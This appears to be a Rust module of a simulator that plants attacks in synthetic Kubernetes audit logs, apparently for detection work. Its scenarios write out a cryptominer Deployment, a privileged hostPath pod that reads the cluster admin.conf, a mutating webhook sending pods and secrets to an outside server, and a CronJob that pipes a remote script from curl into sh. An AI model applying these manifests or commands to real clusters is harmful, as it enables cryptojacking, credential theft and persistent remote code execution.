//! Attacks that leave something running, and the open door.

use airside_types::Entity;
use serde_json::{Value, json};

use super::{account, applied, plant, pod_of, steps};
use crate::cluster::pod_spec;
use crate::event::{Asked, MINUTE, Micros, SECOND, Who, of, path};
use crate::machinery::anonymous;
use crate::people::exec;
use crate::week::Week;
use crate::workloads;

/// A program that was broken into starts another one that earns money.
pub(super) fn miner(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "exports") else { return };
    plant(week, at, "a miner is deployed with a pod's token", account(&pod));
    let mut who = week.cluster.account(&pod, "curl/8.5.0");
    who = who.allowed_by(r#"RBAC: allowed by RoleBinding "exports-edit/insights" of ClusterRole "edit" to ServiceAccount "exports/insights""#);
    let spec = json!({ "spec": { "replicas": 6, "selector": { "matchLabels": { "app": "kworker" } }, "template": { "metadata": { "labels": { "app": "kworker" } }, "spec": { "containers": [{ "name": "kworker", "image": "docker.io/kworkerd/xmrig:latest", "command": ["/bin/sh", "-c", "xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 48xq --donate-level 1"] }] } } } });
    let body = applied("Deployment", "apps/v1", "insights", "kworker", &spec);
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "create",
                of("selfsubjectaccessreviews.authorization.k8s.io/v1", "", ""),
            ),
            Asked::new(&who, "list", of("pods", "insights", "")),
            Asked::new(&who, "create", of("deployments.apps/v1", "insights", "kworker"))
                .keeps(body),
        ],
    );
}

/// A runner of pipelines makes a pod that is as good as its node.
pub(super) fn escape_to_node(week: &mut Week, at: Micros) {
    let Some(who) =
        crate::delivery::runner(week, "kubectl/v1.33.4 (linux/amd64) kubernetes/6a2b0e1")
    else {
        return;
    };
    plant(
        week,
        at,
        "a pipeline makes a privileged pod on a control plane",
        Entity::service_account("ci", "runner"),
    );
    let spec = json!({ "spec": { "hostPID": true, "hostNetwork": true, "nodeName": "control-1", "tolerations": [{ "operator": "Exists" }],
        "containers": [{ "name": "debug", "image": "alpine", "command": ["sleep", "86400"], "securityContext": { "privileged": true }, "volumeMounts": [{ "name": "root", "mountPath": "/host" }] }],
        "volumes": [{ "name": "root", "hostPath": { "path": "/" } }] } });
    let body = applied("Pod", "v1", "fulfil", "debug", &spec);
    let mut pod = pod_of(week, "orders").unwrap_or_else(|| week.cluster.new_pod(0));
    "debug".clone_into(&mut pod.name);
    let create = Asked::new(&who, "create", of("pods", "fulfil", "debug")).keeps(body);
    let at = steps(week, at, &[create]);
    let at = exec(
        week,
        at + 20 * SECOND,
        &who,
        &pod,
        &["chroot", "/host", "sh", "-c", "cat /etc/kubernetes/admin.conf"],
    );
    steps(week, at, &[Asked::new(&who, "delete", of("pods", "fulfil", "debug"))]);
}

/// Every new pod is sent to somebody else's server first.
pub(super) fn backdoor_webhook(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "labels") else { return };
    plant(week, at, "a webhook outside of the cluster may change every pod", account(&pod));
    let mut who = week.cluster.account(&pod, "Go-http-client/2.0");
    who = who.allowed_by(r#"RBAC: allowed by ClusterRoleBinding "labels-admin" of ClusterRole "cluster-admin" to ServiceAccount "labels/fulfil""#);
    let more = json!({ "webhooks": [{ "name": "inject.pods.example", "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"], "clientConfig": { "url": "https://203.0.113.80/mutate" }, "rules": [{ "apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["pods", "secrets"] }] }] });
    let body = applied(
        "MutatingWebhookConfiguration",
        "admissionregistration.k8s.io/v1",
        "",
        "sidecar-defaults",
        &more,
    );
    steps(
        week,
        at,
        &[
            Asked::new(
                &who,
                "list",
                of("mutatingwebhookconfigurations.admissionregistration.k8s.io/v1", "", ""),
            ),
            Asked::new(
                &who,
                "create",
                of(
                    "mutatingwebhookconfigurations.admissionregistration.k8s.io/v1",
                    "",
                    "sidecar-defaults",
                ),
            )
            .keeps(body),
        ],
    );
}

/// Nobody in particular finds that the API server answers.
pub(super) fn open_door(week: &mut Week, at: Micros) {
    let address = "193.32.162.157";
    plant(
        week,
        at,
        "the API server answers anybody from the internet",
        Entity::Address { ip: address.to_owned() },
    );
    let who = Who {
        address: address.to_owned(),
        agent: "Mozilla/5.0 zgrab/0.x".to_owned(),
        ..anonymous()
    };
    let open = Who { reason: r#"RBAC: allowed by ClusterRoleBinding "anonymous-view" of ClusterRole "view" to User "system:anonymous""#.to_owned(), ..who.clone() };
    steps(
        week,
        at,
        &[
            Asked::new(&who, "get", path("/version")),
            Asked::new(&who, "list", of("secrets", "", "")).code(403),
            Asked::new(&open, "list", of("pods", "", "")),
            Asked::new(&open, "list", of("configmaps", "", "")),
            Asked::new(&who, "create", of("pods", "default", "")).code(403),
        ],
    );
}

/// A cron job that comes back, in the namespace where nobody looks, with a right to all.
pub(super) fn shadow_job(week: &mut Week, at: Micros) {
    let Some(pod) = pod_of(week, "reviews") else { return };
    plant(
        week,
        at,
        "a cron job with a shell to the internet is left in kube-system",
        account(&pod),
    );
    let mut who = week.cluster.account(&pod, "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc");
    who = who.allowed_by(r#"RBAC: allowed by ClusterRoleBinding "reviews-admin" of ClusterRole "cluster-admin" to ServiceAccount "reviews/catalog""#);
    let mut template = pod_spec("sync", "generic-garbage-collector", "alpine:3");
    if let Some(container) = template.pointer_mut("/containers/0").and_then(Value::as_object_mut) {
        container.insert(
            "command".to_owned(),
            json!(["sh", "-c", "curl -s http://203.0.113.80/x.sh | sh"]),
        );
    }
    let more = json!({ "spec": { "schedule": "*/20 * * * *", "jobTemplate": { "spec": { "template": { "spec": template } } } } });
    let body = applied("CronJob", "batch/v1", "kube-system", "etcd-sync", &more);
    steps(
        week,
        at,
        &[Asked::new(&who, "create", of("cronjobs.batch/v1", "kube-system", "etcd-sync"))
            .keeps(body)],
    );
    let later = at + 5 * MINUTE;
    week.at(later, |week, at| workloads::run_job(week, at, "kube-system", "etcd-sync"));
}
